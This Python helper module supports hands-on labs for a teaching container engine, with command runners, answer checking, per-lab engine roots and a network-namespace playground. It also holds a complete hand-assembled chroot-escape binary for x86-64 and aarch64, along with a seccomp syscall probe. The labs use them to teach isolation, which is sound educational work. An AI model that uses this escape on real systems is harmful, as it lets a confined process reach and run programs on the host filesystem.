"""What the labs share: run a command as a learner would, show it, check a fact.

Not part of the engine: the labs (``labs/NN-slug/lab.py``) import it so
that each cell reads like a terminal session with a check at the end. A lab
runs headless (``python labs/00-process/lab.py``) or as a notebook; either
way a failed check stops it with the fact that did not hold.
"""

from __future__ import annotations

import atexit
import os
import shlex
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, TypeVar

from mini_engine.base.elf import a64, machine, static_elf


class CheckFailed(AssertionError):
    """A lab's check did not hold."""


@dataclass
class Result:
    returncode: int
    stdout: str
    stderr: str


def engine(args: str | list[str], input: str | None = None, quiet: bool = False) -> Result:
    """``mini-engine ARGS``, run with the Python that runs this lab.

    ``args`` is split like a shell would split it (quotes group words) but
    nothing is expanded: ``$$`` reaches the container's shell as written.
    """
    argv = shlex.split(args) if isinstance(args, str) else list(args)
    if not quiet:
        print(f"$ mini-engine {shlex.join(argv)}")
    done = subprocess.run([sys.executable, "-m", "mini_engine", *argv], input=input, text=True,
                          capture_output=True, timeout=300)
    result = Result(done.returncode, done.stdout, done.stderr)
    if not quiet:
        show(result)
    return result


def show(result: Result) -> None:
    for text in (result.stdout, result.stderr):
        if text:
            print(text, end="" if text.endswith("\n") else "\n")
    if result.returncode:
        print(f"(exit code {result.returncode})")


def check(fact: bool, what: str) -> None:
    """Print ``what`` with a tick if ``fact`` holds; stop the lab if not."""
    if not fact:
        raise CheckFailed(f"check failed: {what}")
    print(f"ok: {what}")


def answer_digest(lab: str, number: int, text: object) -> str:
    """What a lab keeps of an answer to one of its questions: a digest, not the answer.

    Case, surrounding spaces, runs of spaces and a final full stop do not
    count: ``" Pivot_Root. "`` is ``pivot_root``. The lab's name and the
    question's number go in too, so that one answer's digest does not give
    away another's.
    """
    import hashlib

    said = " ".join(str(text).lower().split()).strip(" .")
    return hashlib.sha256(f"{lab}:{number}:{said}".encode()).hexdigest()[:16]


def check_answers(lab: str, given: dict[int, object], accepted: dict[int, tuple[str, ...]]
                  ) -> dict[int, bool | None]:
    """Say right or wrong to each of a learner's answers to the lab's questions.

    ``given`` is the learner's (``None``: not answered yet), ``accepted``
    the digests (``answer_digest``) of the answers that are right. The
    answers themselves, with the reasons, are in the instructor guide,
    which the student edition leaves out. A wrong answer is said, not
    raised: the lab goes on (and headless, with nothing answered, it only
    says so).
    """
    verdicts: dict[int, bool | None] = {}
    for number in sorted(accepted):
        said = given.get(number)
        if said is None or str(said).strip() == "":
            verdicts[number] = None
            print(f"question {number}: not answered yet")
            continue
        verdicts[number] = answer_digest(lab, number, said) in accepted[number]
        print(f"question {number}: {said!r} is " + ("right" if verdicts[number] else "wrong: read again"))
    return verdicts


def require_root() -> None:
    if os.geteuid() != 0:
        raise SystemExit("this lab makes containers: run it as root (sudo)")


# Beside the engine's own /var/lib/mini-engine and /run/mini-engine, never in them.
LABS_ROOT = "/var/lib/mini-engine-labs"
LABS_RUNROOT = "/run/mini-engine-labs"


def own_roots(lab: str) -> str:
    """Give this lab an engine of its own: a root and a runroot made for it, removed at its end.

    Every ``mini-engine`` the lab runs inherits them (``MINI_ENGINE_ROOT``,
    ``MINI_ENGINE_RUNROOT``), so its containers, names, images, leases and
    networks are its own: a container of yours called ``web`` is not the
    lab's, and the lab neither lists nor removes it. (Names and the nft
    table of the network are per network namespace: the labs that use the
    network run in the Playground's.) Returns the root.
    """
    os.makedirs(LABS_ROOT, mode=0o755, exist_ok=True)
    root = tempfile.mkdtemp(prefix=f"{lab}-", dir=LABS_ROOT)
    # With --userns the container's root is an unprivileged uid that walks
    # through here to its rootfs.
    os.chmod(root, 0o755)
    runroot = os.path.join(LABS_RUNROOT, os.path.basename(root))
    os.makedirs(runroot, mode=0o755)
    os.environ["MINI_ENGINE_ROOT"], os.environ["MINI_ENGINE_RUNROOT"] = root, runroot
    atexit.register(_remove_roots, root, runroot)
    print(f"this lab's engine: --root {root} --runroot {runroot}")
    return root


def _remove_roots(root: str, runroot: str) -> None:
    """What a lab stopped by a failed check left: its containers (the engine takes
    them down: mounts, cgroups, leases), then its directories."""
    env = dict(os.environ, MINI_ENGINE_ROOT=root, MINI_ENGINE_RUNROOT=runroot)
    containers = os.path.join(root, "containers")
    for name in sorted(os.listdir(containers)) if os.path.isdir(containers) else []:
        subprocess.run([sys.executable, "-m", "mini_engine", "rm", "-f", name], env=env,
                       capture_output=True, timeout=120)
    shutil.rmtree(root, ignore_errors=True)
    shutil.rmtree(runroot, ignore_errors=True)


def namespaces(pid: int | str = "self") -> dict[str, int]:
    """The namespace inodes of a process, as the probe prints them."""
    out = {}
    for name in ("cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"):
        out[name] = int(os.readlink(f"/proc/{pid}/ns/{name}").split("[")[1].rstrip("]"))
    return out


def children(pid: int) -> list[int]:
    """The pids whose parent is ``pid``, read from /proc (what ``pgrep -P`` does)."""
    out = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as f:
                    if int(f.read().rsplit(")", 1)[1].split()[1]) == pid:
                        out.append(int(entry))
            except OSError:
                pass  # it ended while we looked
    return out


# [book:euid-program]
def syscall_program(call: str | int, *args: int, arch: str | None = None) -> bytes:
    """A program that makes one system call and exits 0 if it worked, else with its errno.

    What seccomp decides is then the exit code: 1 (EPERM) when the filter
    refused the call, 0 when the kernel did it. ``call`` is a name
    (``"keyctl"``), numbered for ``arch`` (this machine by default), or a
    number; at most three arguments, each taken as 32 bits.
    """
    import struct

    from mini_engine.base.syscall_table import syscall_numbers

    arch = arch or machine()
    numbers = {} if isinstance(call, int) else syscall_numbers(arch)
    if isinstance(call, str) and call not in numbers:
        # sysfs, for one: x86-64 keeps old calls that aarch64, on the generic table, never had.
        raise ValueError(f"{call} is no system call on {arch}")
    number = call if isinstance(call, int) else numbers[call]
    if arch == "aarch64":
        # x8 = number, x0-x2 = arguments: a 32-bit value is two 16-bit
        # moves (movz the low half, movk the high one), into w registers,
        # which zero the upper 32 bits as x86-64's mov into edi does.
        words = [0xD2800008 | number << 5]                    # mov x8, #number
        for reg, value in enumerate(args):
            value &= 0xFFFFFFFF
            words.append(0x52800000 | (value & 0xFFFF) << 5 | reg)       # movz wN, #low
            if value >> 16:
                words.append(0x72A00000 | (value >> 16) << 5 | reg)      # movk wN, #high, lsl #16
        words += [
            0xD4000001,  # svc  #0
            0xF100001F,  # cmp  x0, #0
            0xCB0003E1,  # neg  x1, x0            -errno -> errno
            0x9A81A3E0,  # csel x0, xzr, x1, ge   it worked: exit 0; it failed: exit errno
            0xD2800BA8,  # mov  x8, #93           exit
            0xD4000001,  # svc  #0
        ]
        return static_elf(a64(*words), arch)
    code = struct.pack("<BI", 0xB8, number)                   # mov eax, number
    for opcode, value in zip((0xBF, 0xBE, 0xBA), args, strict=False):
        code += struct.pack("<BI", opcode, value & 0xFFFFFFFF)  # mov edi/esi/edx, arg
    code += bytes.fromhex(
        "0f05"        # syscall
        "89c7"        # mov edi, eax
        "f7df"        # neg edi         -errno -> errno
        "85c0"        # test eax, eax
        "7902"        # jns +2          it worked: exit 0
        "eb02"        # jmp +2          it failed: exit errno
        "31ff"        # xor edi, edi
        "b83c000000"  # mov eax, 60     exit
        "0f05"        # syscall
    )
    return static_elf(code, arch)
# [/book:euid-program]


# [book:chroot-escape]
def chroot_escape_program(arch: str | None = None) -> bytes:
    """A complete program, 228 bytes (268 on aarch64): the classic escape from a chroot, then
    ``execve(argv[1], argv + 1)`` wherever it got out to.

    chroot(2) does not change the working directory, and ".." stops only at
    the root. So: make a directory, chroot into it while the working
    directory stays above it, and climb: no step of the climb is the root
    any more, and 64 steps reach the top of whatever filesystem tree there
    is. chroot(".") makes that the root. Run as ``escape /bin/cat /etc/os-release``:
    in a plain chroot it prints the host's file. (busybox's ``chroot``
    applet cannot do this: it changes into the new root itself.)
    """
    if (arch or machine()) == "aarch64":
        return static_elf(CHROOT_ESCAPE_AARCH64, "aarch64")
    return static_elf(bytes.fromhex(
        "4889e5"        # mov rbp, rsp         keep argv's place: the pushes below move rsp
        "686a61696c"    # push "jail"          the name, on the stack, NUL-padded
        "4889e7"        # mov rdi, rsp
        "beed010000"    # mov esi, 0o755
        "b853000000"    # mov eax, 83          mkdir("jail", 0755), below the working directory
        "0f05"          # syscall              (if it exists already, fine)
        "4889e7"        # mov rdi, rsp
        "b8a1000000"    # mov eax, 161         chroot("jail"): the root moves down into it,
        "0f05"          # syscall              the working directory stays where it was
        "85c0"          # test eax, eax
        "753c"          # jnz fail             (no CAP_SYS_CHROOT: exit with the errno)
        "682e2e0000"    # push ".."
        "bb40000000"    # mov ebx, 64
        "4889e7"        # climb: mov rdi, rsp
        "b850000000"    # mov eax, 80          chdir(".."): never at the root, so never stopped,
        "0f05"          # syscall              up to the top of the tree: the host's "/"
        "ffcb"          # dec ebx
        "75f2"          # jnz climb
        "6a2e"          # push "."
        "4889e7"        # mov rdi, rsp
        "b8a1000000"    # mov eax, 161         chroot("."): the top is our root again
        "0f05"          # syscall
        "488b4500"      # mov rax, [rbp]       argc
        "488b7d10"      # mov rdi, [rbp+16]    argv[1]: the program to run out there
        "488d7510"      # lea rsi, [rbp+16]    &argv[1]: its argv
        "488d54c510"    # lea rdx, [rbp+rax*8+16]  envp, after argv's NULL
        "b83b000000"    # mov eax, 59          execve
        "0f05"          # syscall              returns only on failure, with -errno
        "89c7"          # fail: mov edi, eax
        "f7df"          # neg edi              -errno -> errno
        "b83c000000"    # mov eax, 60          exit
        "0f05"          # syscall
    ), arch)


# The same on aarch64, which has mkdirat (with AT_FDCWD) where x86-64 has mkdir.
CHROOT_ESCAPE_AARCH64 = a64(
    0x910003F3,     # mov  x19, sp          keep argv's place: sp moves below
    0xD10043FF,     # sub  sp, sp, #16      room for a name, on the stack
    0xD28C2D49,     # mov  x9, #0x616a      "ja"
    0xF2AD8D29,     # movk x9, #0x6c69, lsl #16   "il": "jail", NUL-padded
    0xF90003E9,     # str  x9, [sp]
    0x92800C60,     # mov  x0, #-100        AT_FDCWD
    0x910003E1,     # mov  x1, sp
    0xD2803DA2,     # mov  x2, #0o755
    0xD2800448,     # mov  x8, #34          mkdirat(AT_FDCWD, "jail", 0755), below the working directory
    0xD4000001,     # svc  #0               (if it exists already, fine)
    0x910003E0,     # mov  x0, sp
    0xD2800668,     # mov  x8, #51          chroot("jail"): the root moves down into it,
    0xD4000001,     # svc  #0               the working directory stays where it was
    0xB50002A0,     # cbnz x0, fail         (no CAP_SYS_CHROOT: exit with the errno)
    0xD285C5C9,     # mov  x9, #0x2e2e      ".."
    0xF90003E9,     # str  x9, [sp]
    0xD2800814,     # mov  x20, #64
    0x910003E0,     # climb: mov x0, sp
    0xD2800628,     # mov  x8, #49          chdir(".."): never at the root, so never stopped,
    0xD4000001,     # svc  #0               up to the top of the tree: the host's "/"
    0xF1000694,     # subs x20, x20, #1
    0x54FFFF81,     # b.ne climb
    0xD28005C9,     # mov  x9, #0x2e        "."
    0xF90003E9,     # str  x9, [sp]
    0x910003E0,     # mov  x0, sp
    0xD2800668,     # mov  x8, #51          chroot("."): the top is our root again
    0xD4000001,     # svc  #0
    0xF9400269,     # ldr  x9, [x19]        argc
    0xF9400A60,     # ldr  x0, [x19, #16]   argv[1]: the program to run out there
    0x91004261,     # add  x1, x19, #16     &argv[1]: its argv
    0x8B090E62,     # add  x2, x19, x9, lsl #3   x19 + argc*8,
    0x91004042,     # add  x2, x2, #16      + 16: envp, after argv's NULL
    0xD2801BA8,     # mov  x8, #221         execve
    0xD4000001,     # svc  #0               returns only on failure, with -errno
    0xCB0003E0,     # fail: neg x0, x0      -errno -> errno
    0xD2800BA8,     # mov  x8, #93          exit
    0xD4000001,     # svc  #0
)
# [/book:chroot-escape]


T = TypeVar("T")


def wait_until(condition: Callable[[], T], timeout: float = 20.0) -> T:
    """Poll ``condition()`` every tenth of a second until it returns something
    true, and return that; after ``timeout``, its last (false) answer."""
    deadline = time.monotonic() + timeout
    while True:
        value = condition()
        if value or time.monotonic() > deadline:
            return value
        time.sleep(0.1)


class Playground:
    """Two network namespaces that play a host and the world outside it (chapter 07).

    The engine runs inside ``host`` (through ``nsenter --net``), so its
    bridge, veths and nft table are made there and never on this machine's
    own network. ``outside`` plays the world: a veth pair links it to
    ``host``, 10.99.0.1 (host, link ``uplink``) to 10.99.0.2 (outside,
    ``world``), and each has its default route through the other.

    Each namespace is held by a ``sleep`` in ``unshare -n``; ``close`` kills
    them, and the namespaces go with everything in them.
    """

    HOST_IP, OUTSIDE_IP = "10.99.0.1", "10.99.0.2"
    UPLINK_MTU = 1400  # not Ethernet's 1500, so a container's MTU shows where it came from

    def __init__(self, env: dict[str, str] | None = None) -> None:
        # The engine's default network, the bridge, whatever the caller's environment says.
        self.env = {k: v for k, v in (env or os.environ).items() if k != "MINI_ENGINE_NETWORK"}
        self.holders = {name: subprocess.Popen(["unshare", "-n", "sleep", "infinity"])
                        for name in ("host", "outside")}
        atexit.register(self.close)  # a lab stopped by a failed check leaves no namespace behind
        try:
            ours = os.readlink("/proc/self/ns/net")
            for holder in self.holders.values():
                for _ in range(1000):  # until unshare has run
                    if os.readlink(f"/proc/{holder.pid}/ns/net") != ours:
                        break
                    time.sleep(0.01)
            for command in ("ip link set lo up", "ip link add uplink type veth peer name world",
                            f"ip link set world netns {self.holders['outside'].pid}",
                            f"ip addr add {self.HOST_IP}/24 dev uplink",
                            f"ip link set uplink mtu {self.UPLINK_MTU} up",
                            f"ip route add default via {self.OUTSIDE_IP}"):
                self.host(*command.split())
            for command in ("ip link set lo up", f"ip addr add {self.OUTSIDE_IP}/24 dev world",
                            f"ip link set world mtu {self.UPLINK_MTU} up",
                            f"ip route add default via {self.HOST_IP}"):
                self.outside(*command.split())
        except BaseException:
            self.close()
            raise

    def ns(self, name: str) -> str:
        """The path of a namespace, for nsenter --net= or setns(2)."""
        return f"/proc/{self.holders[name].pid}/ns/net"

    def _in(self, name: str, args: tuple[str, ...], check: bool, **kw: object) -> Result:
        kw.setdefault("timeout", 60)
        done = subprocess.run(["nsenter", f"--net={self.ns(name)}", *args], capture_output=True,
                              text=True, **kw)  # type: ignore[call-overload]
        if check and done.returncode != 0:
            raise CheckFailed(f"{shlex.join(args)} in {name}: {done.stderr.strip()}")
        return Result(done.returncode, done.stdout, done.stderr)

    def host(self, *args: str, check: bool = True, **kw: object) -> Result:
        """A command in the host namespace."""
        return self._in("host", args, check, **kw)

    def outside(self, *args: str, check: bool = True, **kw: object) -> Result:
        """A command in the outside namespace."""
        return self._in("outside", args, check, **kw)

    def engine(self, *args: str, **kw: object) -> Result:
        """``mini-engine ARGS`` in the host namespace."""
        kw.setdefault("env", self.env)
        return self.host(sys.executable, "-m", "mini_engine", *args, check=False, **kw)

    def show_engine(self, *args: str, quiet: bool = False) -> Result:
        """``mini-engine ARGS`` in the host namespace, shown as a terminal would show it."""
        if not quiet:
            print(f"$ mini-engine {shlex.join(args)}")
        result = self.engine(*args)
        if not quiet:
            show(result)
        return result

    def engine_popen(self, *args: str, **kw: Any) -> subprocess.Popen[str]:
        """``mini-engine ARGS`` in the host namespace, in the background (nsenter execs it: one pid)."""
        kw.setdefault("env", self.env)
        argv = ["nsenter", f"--net={self.ns('host')}", sys.executable, "-m", "mini_engine", *args]
        return subprocess.Popen(argv, text=True, **kw)

    def close(self) -> None:
        for holder in self.holders.values():
            holder.kill()
            holder.wait()
